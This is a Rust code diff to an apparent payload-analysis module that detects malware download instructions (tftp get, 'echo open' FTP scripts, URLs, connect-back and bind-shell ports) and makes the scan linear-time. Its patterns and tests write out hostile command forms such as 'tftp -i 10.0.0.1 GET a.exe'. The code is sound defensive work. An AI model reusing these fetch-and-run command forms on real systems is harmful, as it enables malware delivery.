@@ -114,108 +114,221 @@ impl DownloadInstruction {
 pub const MAX_SCAN: usize = 1 << 20;
 /// At most this many instructions are returned per payload.
 pub const MAX_INSTRUCTIONS: usize = 16;
+/// A command (a `tftp` line, a URL, an FTP script) is read from its
+/// keyword up to the end of its line and at most this many bytes: the
+/// work per keyword is bounded, so a payload of repeated keywords costs
+/// time linear in its size.
+pub const MAX_LINE: usize = 1024;
 
-/// Finds every download instruction in `payload`, in the order they appear.
+/// How much work an instruction search did: what the search-cost tests
+/// and the fuzz targets hold linear in the payload size.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub struct ScanWork {
+    /// Bytes read: each pass over the text plus every window handed to a
+    /// parser (the most a parser may look at).
+    pub bytes_scanned: u64,
+    /// Keyword matches handed to a parser.
+    pub parses: u64,
+}
+
+/// Finds every download instruction in `payload`, in the order they appear
+/// (at most [`MAX_INSTRUCTIONS`], duplicates dropped).
 ///
 /// Payloads carry commands as ASCII or, inside DCE-RPC strings, as
-/// UTF-16LE; both readings are searched.
+/// UTF-16LE; both readings are searched. The work is linear in the
+/// payload: see [`find_instructions_with_work`].
 pub fn find_instructions(payload: &[u8]) -> Vec<DownloadInstruction> {
+    find_instructions_with_work(payload).0
+}
+
+/// [`find_instructions`], also saying how much work it did.
+pub fn find_instructions_with_work(payload: &[u8]) -> (Vec<DownloadInstruction>, ScanWork) {
+    let mut work = ScanWork::default();
     let payload = &payload[..payload.len().min(MAX_SCAN)];
-    let ascii: String = payload
-        .iter()
-        .map(|&b| {
-            if (0x20..0x7f).contains(&b) {
-                b as char
-            } else {
-                '\n'
-            }
-        })
-        .collect();
+    let printable = |b: u8| {
+        if (0x20..0x7f).contains(&b) {
+            b as char
+        } else {
+            '\n'
+        }
+    };
+    let ascii: String = payload.iter().map(|&b| printable(b)).collect();
     // UTF-16LE text: drop the zero high bytes, keep everything else.
     let wide: String = payload
         .iter()
         .filter(|&&b| b != 0)
-        .map(|&b| {
-            if (0x20..0x7f).contains(&b) {
-                b as char
-            } else {
-                '\n'
-            }
-        })
+        .map(|&b| printable(b))
         .collect();
-    let mut found = scan_text(&ascii);
-    for i in scan_text(&wide) {
+    work.bytes_scanned += 2 * payload.len() as u64;
+    let mut found = scan_text(&ascii, &mut work);
+    for i in scan_text(&wide, &mut work) {
         if !found.contains(&i) {
             found.push(i);
         }
     }
     found.truncate(MAX_INSTRUCTIONS);
-    found
+    (found, work)
 }
 
-fn scan_text(text: &str) -> Vec<DownloadInstruction> {
-    let lower = text.to_ascii_lowercase();
-    let mut found: Vec<(usize, DownloadInstruction)> = Vec::new();
-    for (at, _) in lower.match_indices("tftp") {
-        if let Some(i) = parse_tftp(&text[at..]) {
-            found.push((at, i));
-        }
-    }
-    for (at, _) in lower.match_indices("echo open ") {
-        if let Some(i) = parse_ftp_script(&text[at..], &lower[at..]) {
-            found.push((at, i));
-        }
-    }
-    for (at, _) in lower.match_indices("http://") {
-        if let Some(i) = parse_http_url(&text[at + 7..]) {
-            found.push((at, i));
-        }
-    }
-    for (at, _) in lower.match_indices("ftp://") {
-        if let Some(i) = parse_ftp_url(&text[at + 6..]) {
-            found.push((at, i));
-        }
-    }
-    for key in ["connect to me on port ", "connect back on port "] {
-        for (at, _) in lower.match_indices(key) {
-            if let Some(port) = leading_port(&text[at + key.len()..]) {
-                found.push((at, DownloadInstruction::Push { port }));
+/// The text after a keyword that a parser may read: up to the end of the
+/// line and at most `max` bytes. `cut` says the line went on.
+struct Window<'a> {
+    text: &'a str,
+    lower: &'a str,
+    cut: bool,
+    /// Where the first URL terminator is, relative to the window (its
+    /// length if none), when the key is a URL scheme.
+    url_end: usize,
+    /// Bytes the parser read (the whole window unless it says less).
+    read: std::cell::Cell<usize>,
+}
+
+/// Whether `part` (a slice of `w`) runs to a cut end of the window: then
+/// it may be longer than what was read, and is not trusted.
+fn runs_off(w: &Window, part: &str) -> bool {
+    w.cut && offset_end(w, part) == w.text.len()
+}
+
+/// Where `part` (a slice of `w`) ends, relative to the window.
+fn offset_end(w: &Window, part: &str) -> usize {
+    part.as_ptr() as usize - w.text.as_ptr() as usize + part.len()
+}
+
+/// The next position at or after `at` where `pred` holds, remembered:
+/// keyword matches come in order, so each byte is searched once per key.
+struct NextOf {
+    pos: Option<usize>,
+}
+
+impl NextOf {
+    fn find(&mut self, bytes: &[u8], at: usize, pred: impl Fn(u8) -> bool, work: &mut ScanWork) -> usize {
+        match self.pos {
+            Some(p) if p >= at => p,
+            _ => {
+                let p = bytes[at..]
+                    .iter()
+                    .position(|&b| pred(b))
+                    .map_or(bytes.len(), |i| at + i);
+                work.bytes_scanned += (p - at) as u64;
+                self.pos = Some(p);
+                p
             }
         }
+    }
+}
+
+fn is_url_end(b: u8) -> bool {
+    b.is_ascii_whitespace() || b == b'"' || b == b'\'' || b == b'<' || b == b'>'
+}
+
+/// Collects, for one keyword, the instructions `parse` finds at its
+/// matches, stopping at [`MAX_INSTRUCTIONS`] distinct ones.
+#[allow(clippy::too_many_arguments)]
+fn scan_key(
+    text: &str,
+    lower: &str,
+    key: &str,
+    max: usize,
+    url: bool,
+    work: &mut ScanWork,
+    found: &mut Vec<(usize, DownloadInstruction)>,
+    parse: impl Fn(&Window) -> Option<DownloadInstruction>,
+) {
+    work.bytes_scanned += text.len() as u64;
+    let bytes = text.as_bytes();
+    let (mut newline, mut term) = (NextOf { pos: None }, NextOf { pos: None });
+    let mut distinct = 0;
+    for (at, _) in lower.match_indices(key) {
+        let nl = newline.find(bytes, at, |b| b == b'\n', work);
+        let end = nl.min(at + max);
+        let url_end = if url {
+            term.find(bytes, at + key.len(), is_url_end, work).min(end) - at
+        } else {
+            end - at
+        };
+        let w = Window {
+            text: &text[at..end],
+            lower: &lower[at..end],
+            cut: end < nl,
+            url_end,
+            read: std::cell::Cell::new(end - at),
+        };
+        let got = parse(&w);
+        work.parses += 1;
+        work.bytes_scanned += w.read.get() as u64;
+        if let Some(i) = got {
+            if !found.iter().any(|(_, f)| *f == i) {
+                found.push((at, i));
+                distinct += 1;
+                if distinct == MAX_INSTRUCTIONS {
+                    break;
+                }
+            }
+        }
+    }
+}
+
+fn scan_text(text: &str, work: &mut ScanWork) -> Vec<DownloadInstruction> {
+    let lower = text.to_ascii_lowercase();
+    work.bytes_scanned += text.len() as u64;
+    let mut found: Vec<(usize, DownloadInstruction)> = Vec::new();
+    let f = &mut found;
+    scan_key(text, &lower, "tftp", MAX_LINE, false, work, f, parse_tftp);
+    scan_key(text, &lower, "echo open ", MAX_LINE, false, work, f, parse_ftp_script);
+    scan_key(text, &lower, "http://", MAX_LINE, true, work, f, |w| {
+        parse_http_url(w, &w.text[7..w.url_end])
+    });
+    scan_key(text, &lower, "ftp://", MAX_LINE, true, work, f, |w| {
+        parse_ftp_url(w, &w.text[6..w.url_end])
+    });
+    for key in ["connect to me on port ", "connect back on port "] {
+        scan_key(text, &lower, key, key.len() + 6, false, work, &mut found, |w| {
+            leading_port(w, &w.text[key.len()..]).map(|port| DownloadInstruction::Push { port })
+        });
     }
     for key in ["bindport ", "bind shell on port "] {
-        for (at, _) in lower.match_indices(key) {
-            if let Some(port) = leading_port(&text[at + key.len()..]) {
-                found.push((at, DownloadInstruction::BindPort { port }));
-            }
-        }
+        scan_key(text, &lower, key, key.len() + 6, false, work, &mut found, |w| {
+            leading_port(w, &w.text[key.len()..])
+                .map(|port| DownloadInstruction::BindPort { port })
+        });
     }
     found.sort_by_key(|(at, _)| *at);
-    found.dedup_by(|a, b| a.1 == b.1);
     found.into_iter().map(|(_, i)| i).collect()
 }
 
+fn is_sep(c: char) -> bool {
+    c.is_whitespace() || c == '&' || c == '|' || c == '>' || c == ';'
+}
+
 fn tokens(s: &str) -> impl Iterator<Item = &str> {
-    s.split(|c: char| c.is_whitespace() || c == '&' || c == '|' || c == '>' || c == ';')
-        .filter(|t| !t.is_empty())
+    s.split(is_sep).filter(|t| !t.is_empty())
 }
 
 /// `tftp[.exe] -i HOST get FILE` (flags and case vary).
-fn parse_tftp(s: &str) -> Option<DownloadInstruction> {
-    let line = s.lines().next()?;
-    let mut t = tokens(line).take(8);
-    let first = t.next()?.to_ascii_lowercase();
+fn parse_tftp(w: &Window) -> Option<DownloadInstruction> {
+    // The keyword must start a word of its own: `tftp` or `tftp.exe`.
+    let head = &w.text[..w.text.len().min("tftp.exe".len() + 1)];
+    w.read.set(head.len());
+    let first_end = head.find(is_sep).unwrap_or(head.len());
+    let first = &w.lower[..first_end];
     if first != "tftp" && first != "tftp.exe" {
         return None;
     }
-    let mut rest: Vec<&str> = t.collect();
-    rest.retain(|w| !w.starts_with('-'));
-    let get = rest.iter().position(|w| w.eq_ignore_ascii_case("get"))?;
+    w.read.set(first_end);
+    let mut rest: Vec<&str> = tokens(&w.text[first_end..]).take(7).collect();
+    if let Some(last) = rest.last() {
+        w.read.set(offset_end(w, last) + 1);
+    }
+    rest.retain(|t| !t.starts_with('-'));
+    let get = rest.iter().position(|t| t.eq_ignore_ascii_case("get"))?;
     if get == 0 {
         return None;
     }
     let host = valid_host(rest[get - 1])?;
     let file = rest.get(get + 1)?;
+    if runs_off(w, file) {
+        return None;
+    }
     Some(DownloadInstruction::Tftp {
         host,
         file: file.trim_matches('"').to_string(),
@@ -223,18 +336,24 @@ fn parse_tftp(s: &str) -> Option<DownloadInstruction> {
 }
 
 /// `echo open HOST PORT > o&echo user U P >> o&echo binary >> o&echo get FILE >> o...`
-fn parse_ftp_script(s: &str, lower: &str) -> Option<DownloadInstruction> {
-    let window = &s[..s.len().min(1024)];
-    let lwindow = &lower[..window.len()];
+fn parse_ftp_script(w: &Window) -> Option<DownloadInstruction> {
+    let (window, lwindow) = (w.text, w.lower);
     let mut after_open = tokens(&window["echo open ".len()..]);
     let host = valid_host(after_open.next()?)?;
     let port = after_open
         .next()
         .and_then(|p| p.parse::<u16>().ok())
         .unwrap_or(21);
+    // Each `echo` command runs to the next one: every byte of the window
+    // is tokenised once.
+    let echoes: Vec<usize> = lwindow.match_indices("echo ").map(|(at, _)| at).collect();
+    let command = |k: usize| -> &str {
+        let end = echoes.get(k + 1).copied().unwrap_or(window.len());
+        &window[echoes[k] + 5..end]
+    };
     let (mut user, mut password, mut file) = (None, None, None);
-    for (at, _) in lwindow.match_indices("echo ") {
-        let mut words = tokens(&window[at + 5..]);
+    for k in 0..echoes.len() {
+        let mut words = tokens(command(k));
         match words.next().map(|w| w.to_ascii_lowercase()).as_deref() {
             Some("user") => {
                 user = words.next().map(str::to_string);
@@ -244,10 +363,17 @@ fn parse_ftp_script(s: &str, lower: &str) -> Option<DownloadInstruction> {
                 file = file.or_else(|| words.next().map(str::to_string));
             }
             Some(w) if user.is_none() && w != "open" && w != "binary" && w != "bye" => {
-                // Scripts often give the user name as a bare line.
-                user = Some(window[at + 5..at + 5 + w.len()].to_string());
-                if let Some(p) = find_bare_password(&window[at + 5 + w.len()..]) {
-                    password = Some(p);
+                // Scripts often give the user name as a bare line, and
+                // the password as the next.
+                user = Some(command(k)[..w.len()].to_string());
+                if let Some(p) = (k + 1 < echoes.len())
+                    .then(|| tokens(command(k + 1)).next())
+                    .flatten()
+                {
+                    let lp = p.to_ascii_lowercase();
+                    if lp != "get" && lp != "binary" && lp != "bye" && lp != "user" {
+                        password = Some(p.to_string());
+                    }
                 }
             }
             _ => {}
@@ -262,14 +388,6 @@ fn parse_ftp_script(s: &str, lower: &str) -> Option<DownloadInstruction> {
     })
 }
 
-fn find_bare_password(rest: &str) -> Option<String> {
-    let lower = rest.to_ascii_lowercase();
-    let at = lower.find("echo ")?;
-    let w = tokens(&rest[at + 5..]).next()?;
-    let lw = w.to_ascii_lowercase();
-    (lw != "get" && lw != "binary" && lw != "bye" && lw != "user").then(|| w.to_string())
-}
-
 fn split_host_port(authority: &str, default: u16) -> Option<(String, u16)> {
     match authority.rsplit_once(':') {
         Some((h, p)) => Some((valid_host(h)?, p.parse().ok()?)),
@@ -277,18 +395,21 @@ fn split_host_port(authority: &str, default: u16) -> Option<(String, u16)> {
     }
 }
 
-fn url_end(s: &str) -> usize {
-    s.find(|c: char| c.is_whitespace() || c == '"' || c == '\'' || c == '<' || c == '>')
-        .unwrap_or(s.len())
-}
-
-fn parse_http_url(s: &str) -> Option<DownloadInstruction> {
-    let url = &s[..url_end(s)];
+fn parse_http_url(w: &Window, url: &str) -> Option<DownloadInstruction> {
+    // The URL's end is known (found once per key): one running off the
+    // window is dropped unread; otherwise the authority is read, and the
+    // path only when the host is good.
+    w.read.set(7);
+    if runs_off(w, url) {
+        return None;
+    }
     let (authority, path) = match url.find('/') {
         Some(i) => (&url[..i], &url[i..]),
         None => (url, "/"),
     };
+    w.read.set(7 + authority.len() + 1);
     let (host, port) = split_host_port(authority, 80)?;
+    w.read.set(w.url_end);
     Some(DownloadInstruction::Http {
         host,
         port,
@@ -296,9 +417,13 @@ fn parse_http_url(s: &str) -> Option<DownloadInstruction> {
     })
 }
 
-fn parse_ftp_url(s: &str) -> Option<DownloadInstruction> {
-    let url = &s[..url_end(s)];
+fn parse_ftp_url(w: &Window, url: &str) -> Option<DownloadInstruction> {
+    w.read.set(6);
+    if runs_off(w, url) {
+        return None;
+    }
     let (authority, path) = url.split_once('/')?;
+    w.read.set(6 + authority.len() + 1);
     let (creds, hostport) = match authority.rsplit_once('@') {
         Some((c, h)) => (Some(c), h),
         None => (None, authority),
@@ -308,6 +433,7 @@ fn parse_ftp_url(s: &str) -> Option<DownloadInstruction> {
         None => (None, None),
     };
     let (host, port) = split_host_port(hostport, 21)?;
+    w.read.set(w.url_end);
     Some(DownloadInstruction::FtpUrl {
         host,
         port,
@@ -317,8 +443,11 @@ fn parse_ftp_url(s: &str) -> Option<DownloadInstruction> {
     })
 }
 
-fn leading_port(s: &str) -> Option<u16> {
-    let digits: String = s.chars().take_while(|c| c.is_ascii_digit()).collect();
+fn leading_port(w: &Window, s: &str) -> Option<u16> {
+    let digits = &s[..s.find(|c: char| !c.is_ascii_digit()).unwrap_or(s.len())];
+    if runs_off(w, digits) {
+        return None;
+    }
     digits.parse().ok().filter(|p| *p != 0)
 }
 
@@ -411,6 +540,100 @@ mod tests {
                 host: "192.0.2.7".into(),
                 file: "a.exe".into()
             }]
+        );
+    }
+
+    /// Repeating a keyword used to make every match re-read (and
+    /// lower-case) the rest of the line: quadratic. The work must be
+    /// linear: 16 times the payload, at most 16 times the work.
+    #[test]
+    fn search_work_is_linear_in_payload_size() {
+        let units: [&[u8]; 13] = [
+            b"tftp",
+            b"tftp ",
+            b"tftp -i 10.0.0.1 get ",
+            b"tftp -i 10.0.0.1 GET a.exe ",
+            b"http://",
+            b"http://a",
+            b"ftp://",
+            b"echo open 10.0.0.1 ",
+            b"echo open 10.0.0.1 echo user ",
+            b"echo ",
+            b"connect to me on port 1",
+            b"bindport 9",
+            b"t\0f\0t\0p\0 \0",
+        ];
+        for unit in units {
+            let work = |size: usize| {
+                let p: Vec<u8> = unit.iter().cycle().take(size).copied().collect();
+                find_instructions_with_work(&p).1
+            };
+            let (small, big) = (work(64 << 10), work(1 << 20));
+            let name = String::from_utf8_lossy(unit);
+            // Work per byte at 1 MiB within 5% of that at 64 KiB (windows
+            // near the end of a payload are shorter: the edge costs less).
+            assert!(
+                big.bytes_scanned * 100 <= small.bytes_scanned * 16 * 105,
+                "{name:?}: 64 KiB {small:?}, 1 MiB {big:?}"
+            );
+            assert!(big.parses <= 16 * small.parses + 32, "{name:?}");
+            // And a fixed cost per byte: each keyword reads one bounded
+            // window (an FTP script, 10 bytes of keyword, the most).
+            let per_byte = (2 * (MAX_LINE / 10 + 24) + 2) as u64;
+            assert!(
+                big.bytes_scanned <= per_byte << 20,
+                "{name:?}: {} bytes scanned for 1 MiB",
+                big.bytes_scanned
+            );
+        }
+    }
+
+    #[test]
+    fn repeats_are_capped_and_deduplicated() {
+        let one: Vec<u8> = b"tftp -i 10.0.0.1 GET a.exe "
+            .iter()
+            .cycle()
+            .take(MAX_SCAN)
+            .copied()
+            .collect();
+        assert_eq!(
+            find_instructions(&one),
+            vec![DownloadInstruction::Tftp {
+                host: "10.0.0.1".into(),
+                file: "a.exe".into()
+            }]
+        );
+        let mut many = Vec::new();
+        for i in 0..1000 {
+            many.extend_from_slice(format!("http://10.0.0.1/a{i}.exe ").as_bytes());
+        }
+        let got = find_instructions(&many);
+        assert_eq!(got.len(), MAX_INSTRUCTIONS);
+        assert_eq!(
+            got[15],
+            DownloadInstruction::Http {
+                host: "10.0.0.1".into(),
+                port: 80,
+                path: "/a15.exe".into()
+            }
+        );
+    }
+
+    #[test]
+    fn long_lines_are_read_up_to_the_window() {
+        // A command after a megabyte-long printable line is still found.
+        let mut p = vec![b'x'; 200_000];
+        p.extend_from_slice(b" tftp -i 10.0.0.1 GET a.exe");
+        assert_eq!(find_instructions(&p).len(), 1);
+        // A URL longer than the window is not cut short and trusted.
+        let mut p = b"http://10.0.0.1/".to_vec();
+        p.extend(vec![b'a'; 2 * MAX_LINE]);
+        assert!(find_instructions(&p).is_empty());
+        // A port running past its window is not read as a shorter one.
+        assert!(find_instructions(b"bindport 0044441").is_empty());
+        assert_eq!(
+            find_instructions(b"bindport 44441"),
+            vec![DownloadInstruction::BindPort { port: 44441 }]
         );
     }
 
